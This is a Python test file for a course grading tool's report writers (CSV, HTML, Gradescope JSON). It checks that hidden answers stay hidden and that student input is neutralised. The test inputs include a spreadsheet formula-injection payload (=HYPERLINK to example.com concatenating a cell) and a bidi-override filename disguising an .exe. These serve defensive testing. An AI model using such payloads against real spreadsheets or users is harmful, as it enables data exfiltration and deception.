"""Reports: complete for the instructor; no hidden check is told to a student, nothing of a student is executed."""

import json
from dataclasses import replace

import pytest

from eventlab.grading.csv_files import text
from eventlab.grading.reports import gradescope, html, summary, tables, write_all
from eventlab.grading.reports.messages import number
from eventlab.grading.results import Question, save, slug
from tests.grading.report_examples import MISSED, assert_harmless, read, record


def test_every_report_is_written(tmp_path):
    write_all.write_all([record(), record("Ben")], tmp_path)

    assert sorted(str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*.*") if path.is_file()) == sorted(
        ["grades.csv", "checks.csv", "report.html"]
        + [
            f"{folder.format(slug(name))}"
            for name in ("ada", "Ben")
            for folder in ("feedback/{}.html", "gradescope/{}/results.json")
        ]
    )


def test_the_pages_of_who_is_not_in_the_class_any_more_are_deleted(tmp_path):
    both = [record("ada"), record("Somebody who left")]
    for one in both:
        save(one, tmp_path)
    write_all.write_all(both, tmp_path)
    (tmp_path / "feedback" / "index.html").write_text("the instructor's")
    write_all.write_all([record("ada")], tmp_path)

    assert sorted(path.name for path in (tmp_path / "feedback").iterdir()) == ["ada.html", "index.html"]
    assert [path.name for path in (tmp_path / "gradescope").iterdir()] == ["ada"]


def test_no_submissions_give_empty_reports(tmp_path):
    write_all.write_all([], tmp_path)

    assert read((tmp_path / "grades.csv").read_text()) == []
    assert "0 submissions" in (tmp_path / "report.html").read_text()


def test_the_grades_have_a_row_a_student_with_each_questions_points(tmp_path):
    tables.write([record(), record("Ben", questions=(), status="unreadable", points=0)], tmp_path)

    ada, ben = read((tmp_path / "grades.csv").read_text())
    assert ada == {
        "student": "ada",
        "lab": "lab01_events",
        "status": "timed_out",
        "points": "1",
        "max_points": "4.5",
        "q1": "1",
        "q2": "0",
        "sandbox": "yes",
        "messages": "killed at q2",
    }
    assert (ben["student"], ben["status"], ben["points"], ben["q1"]) == ("Ben", "unreadable", "0", "")


def test_the_checks_have_a_row_a_check_with_expected_and_got(tmp_path):
    tables.write([record(), record("Ben")], tmp_path)

    rows = read((tmp_path / "checks.csv").read_text())
    assert [(row["student"], row["question"], row["check"]) for row in rows][:3] == [
        ("ada", "q1", "every_sword"),
        ("ada", "q1", "no_duplicates"),
        ("ada", "q2", "right_columns"),
    ]
    assert len(rows) == 6
    assert (rows[1]["expected"], rows[1]["got"], rows[1]["hidden"]) == ("17 of secret", "19 of secret", "yes")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\r=", "\n@", "＝", "\u00a0=", "\x00="])
def test_nothing_that_a_student_writes_is_a_formula(tmp_path, start):
    formula = f'{start}HYPERLINK("http://example.com?"&A1)'
    tables.write(
        [record(formula, questions=(Question("q1", 0, 1, "", (replace(MISSED, got=formula),)),))], tmp_path
    )

    for row in read((tmp_path / "grades.csv").read_text()) + read((tmp_path / "checks.csv").read_text()):
        for cell in row.values():
            assert not cell.lstrip().startswith(tuple("=+-@＝\x00")), cell


@pytest.mark.parametrize("between", [";", "; ", "\t", "\n", ';"'])
def test_no_part_of_a_text_is_a_formula_for_a_spreadsheet_with_another_separator(between):
    assert text(f"ada{between}=1+1") == f"ada{between}'=1+1"


@pytest.mark.parametrize(
    ("points", "shown"),
    [
        (2.0, "2"),
        (0.1 + 0.2, "0.3"),
        (1 / 3, "0.333"),
        (112.75, "112.75"),
        (12.125, "12.125"),
        (10000.5, "10000.5"),
    ],
)
def test_points_are_shown_as_they_are(points, shown):
    assert number(points) == shown


@pytest.mark.parametrize("mark", "\u202a\u202b\u202d\u202e\u2066\u2067\u2068")
def test_no_name_turns_the_order_of_the_text_after_it(tmp_path, mark):
    name = f"evil{mark}gnp.exe"
    tables.write([record(name)], tmp_path)

    assert mark not in html.overview([record(name), record("ben")])
    assert mark not in (tmp_path / "grades.csv").read_text()


def test_a_name_with_quotes_and_lines_stays_in_its_cell(tmp_path):
    name = 'Ada "the count",\n"Lovelace"'
    tables.write([record(name)], tmp_path)

    assert [row["student"] for row in read((tmp_path / "grades.csv").read_text())] == [name]


def test_gradescopes_results_have_the_score_and_a_test_a_check(tmp_path):
    found = json.loads(gradescope.write(record(), tmp_path).read_text())

    assert found["score"] == 1
    assert [(test["name"], test["score"], test["max_score"], test["status"]) for test in found["tests"]] == [
        ("every_sword", 1, 1, "passed"),
        ("no_duplicates", 0, 2, "failed"),
        ("right_columns", 0, 1.5, "failed"),
    ]
    assert "your cell ran past 60 s" in found["output"]
    assert {test["visibility"] for test in found["tests"]} == {"visible"}


def test_gradescopes_results_have_no_character_that_a_database_refuses():
    """PostgreSQL stores neither U+0000 nor half of a surrogate pair."""
    note = "\x00\udcff.csv was left out"
    assert "\n��.csv was left out" in gradescope.results(replace(record(), notes=(note,)))["output"]


def test_gradescopes_results_tell_no_hidden_value():
    text = json.dumps(gradescope.results(record()))

    assert "secret" not in text
    assert "is every event unique?" in text
    assert "host: string" in text


def test_the_overview_has_the_commonest_failure_and_pass_rate_of_each_check():
    others = [replace(MISSED, got=got) for got in ("HOST: string", "nothing", "HOST: string")]
    class_ = [record(f"s{n}", questions=(Question("q2", 0, 1.5, "", (check,)),)) for n, check in enumerate(others)]

    (found,) = summary.checks(
        [*class_, record("s3", questions=(Question("q2", 1.5, 1.5, "", (replace(MISSED, passed=True),)),))]
    )

    assert (found.passed, found.of, found.commonest, found.times) == (1, 4, "HOST: string", 2)


def test_the_overview_has_a_bar_of_each_check_and_range_of_points_and_every_student():
    page = html.overview([record(), record("Ben", status="died", messages=("killed",)), record("名前$x$")])

    assert page.count('<span class="plain bar" style="--share: ') == 10
    assert page.count('<span class="bar" style="--share: ') == 3
    assert (
        '<td class="short">20–30 %</td><td class="short"><span class="plain bar" style="--share: 100%"></span>3<'
        in page
    )
    assert "1 time: host: string" in html.overview([record()])
    assert "3 times: host: string" in page
    for said in ("Ben", "名前", "2 timed_out, 1 died", "Isolation: bwrap", "killed at q2"):
        assert said in page


def test_the_overview_draws_whatever_a_student_left():
    strange = replace(MISSED, got="$\\frac{1}{$ 名前 \x00 \ud800 " * 100, name="a$b$ {}")

    page = html.overview([record(questions=(Question("q1", 0, 0, "", (strange,)),), max_points=0)])

    assert "a$b$ {}" in page
    assert "0 / 1" in page
    assert_harmless(page)


def test_what_stands_between_backticks_is_code_and_all_is_text():
    assert html.code("run `eventlab <x>` & `go") == "run <code>eventlab &lt;x&gt;</code> &amp; `go"
